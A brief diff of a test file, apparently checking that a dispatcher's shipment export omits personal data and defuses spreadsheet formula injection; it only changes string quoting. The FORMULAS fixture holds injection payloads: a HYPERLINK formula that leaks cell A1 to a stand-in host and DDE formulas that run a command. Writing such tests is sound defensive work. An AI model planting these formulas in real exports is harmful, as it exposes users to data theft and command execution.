@@ -47,7 +47,7 @@ def test_a_dispatcher_exports_without_personal_data(dispatcher, shipment):
 
 
 FORMULAS = {
-    "reference": "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Click\")",
+    "reference": '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
     "recipient_name": "=cmd|' /C calc'!A0",
     "recipient_address": "@SUM(1+9)*cmd|' /C calc'!A0",
 }
